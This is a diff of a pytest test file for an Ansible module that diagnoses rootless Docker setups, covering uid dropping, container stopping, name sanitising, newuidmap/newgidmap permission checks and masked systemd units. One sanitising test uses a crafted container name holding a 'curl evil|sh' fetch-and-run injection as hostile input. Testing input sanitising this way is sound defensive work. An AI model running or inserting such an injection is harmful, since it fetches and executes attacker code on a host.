@@ -1,4 +1,4 @@
-"""A person's Docker daemon is theirs: what it answers is hostile, and it is not started by being looked at."""
+"""Somebody's Docker daemon is theirs: what it answers is hostile, and a look does not start it; and what it needs."""
 
 import os
 import socket
@@ -12,6 +12,10 @@ from types import SimpleNamespace
 
 import pytest
 from ansible_collections.gpuadmin.node.plugins.module_utils.diagnosis import docker
+from ansible_collections.gpuadmin.node.plugins.module_utils.diagnosis.docker_needs import (
+    find_mapper_faults,
+    list_masked_units,
+)
 from ansible_collections.gpuadmin.node.plugins.module_utils.diagnosis.subject import Subject
 from ansible_collections.gpuadmin.node.plugins.module_utils.errors import NodeError
 
@@ -82,10 +86,14 @@ def test_a_daemon_that_answers_what_it_likes(
 
 
 @pytest.mark.root
-def test_it_is_asked_as_its_person_and_root_is_root_again(directory: Path) -> None:
-    uids = serve(directory / "s", lambda connection: connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n{}"))
+@pytest.mark.parametrize("stops", [False, True], ids=["asked", "asked to stop a container"])
+def test_it_is_asked_as_its_person_and_root_is_root_again(directory: Path, stops: bool) -> None:
+    uids = serve(directory / "s", head(b"204 No Content" if stops else b"200 OK\r\n\r\n{}"))
     (directory / "s").chmod(0o666)
-    assert docker.ask_daemon(str(directory / "s"), UID, "/x") == {}
+    if stops:
+        docker.stop_container(str(directory / "s"), UID, "ab12", 7, 30)
+    else:
+        assert docker.ask_daemon(str(directory / "s"), UID, "/x") == {}
     assert uids == [UID]
     assert (os.geteuid(), os.getegid()) == (0, 0)
 
@@ -130,12 +138,9 @@ def test_an_image_for_another_processor(
     assert docker._other_processor(Subject(root=str(directory)), image) == found
 
 
-def test_a_name_says_nothing_to_a_shell() -> None:
+def test_a_name_says_nothing_to_a_shell_and_is_cut() -> None:
     assert docker.describe_end({"Name": "/my-job.1_a"})["name"] == "my-job.1_a"
     assert docker.describe_end({"Name": "/x; curl evil|sh $(id)"})["name"] == "x__curl_evil_sh___id_"
-
-
-def test_a_long_name_is_cut() -> None:
     assert len(str(docker.describe_end({"Name": "/\x1b" + "x" * 10_000}))) < 300
 
 
@@ -177,15 +182,6 @@ def test_a_daemon_that_does_not_stop_a_container(
     assert time.monotonic() - begin < 20
 
 
-@pytest.mark.root
-def test_a_container_is_stopped_as_its_person(directory: Path) -> None:
-    uids = serve(directory / "s", head(b"204 No Content"))
-    (directory / "s").chmod(0o666)
-    docker.stop_container(str(directory / "s"), UID, "ab12", 7, 30)
-    assert uids == [UID]
-    assert (os.geteuid(), os.getegid()) == (0, 0)
-
-
 @pytest.mark.parametrize("listens", [True, False])
 def test_a_daemon_that_takes_nobody_in(directory: Path, listens: bool) -> None:
     with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as daemon:
@@ -205,3 +201,41 @@ def test_a_daemon_that_takes_nobody_in(directory: Path, listens: bool) -> None:
         assert time.monotonic() - begin < 20
         for one in waiting:
             one.close()
+
+
+@pytest.mark.root
+def test_mappers(tmp_path: Path) -> None:
+    subject = Subject(root=str(tmp_path))
+    (tmp_path / "usr/bin").mkdir(parents=True)
+    assert find_mapper_faults(subject) == ["/usr/bin/newuidmap is not installed", "/usr/bin/newgidmap is not installed"]
+    for name in ("newuidmap", "newgidmap"):
+        (tmp_path / "usr/bin" / name).touch()
+        (tmp_path / "usr/bin" / name).chmod(0o4755)
+    assert find_mapper_faults(subject) == []
+    path = tmp_path / "usr/bin/newuidmap"
+    for mode, words in ((0o755, "is not setuid root (mode 0755)"), (0o4750, "has mode 4750: people cannot run it")):
+        path.chmod(mode)
+        assert find_mapper_faults(subject) == [f"/usr/bin/newuidmap {words}"]
+    path.chmod(0o4755)
+    os.chown(path, 20000, 20000)
+    path.chmod(0o4755)
+    assert find_mapper_faults(subject) == ["/usr/bin/newuidmap is not setuid root (mode 4755)"]
+    os.chown(path, 0, 0)
+    path.chmod(0o755)
+    # as Fedora has it: vfs_cap_data, version 2, CAP_SETUID
+    os.setxattr(path, "security.capability", bytes.fromhex("0100000280000000000000000000000000000000"))
+    assert find_mapper_faults(subject) == []
+
+
+def test_masked(tmp_path: Path) -> None:
+    home = str(tmp_path / "home/minji")
+    assert list_masked_units(home) == []
+    units = tmp_path / "home/minji/.config/systemd/user"
+    units.mkdir(parents=True)
+    (units / "docker.service").symlink_to("/dev/null")
+    (units / "docker.socket").write_text("[Socket]\n")
+    assert list_masked_units(home) == ["docker.service"]
+    # what is behind a link of theirs is not looked at
+    (tmp_path / "home/minji/.config").rename(tmp_path / "elsewhere")
+    (tmp_path / "home/minji/.config").symlink_to(tmp_path / "elsewhere")
+    assert list_masked_units(home) == []
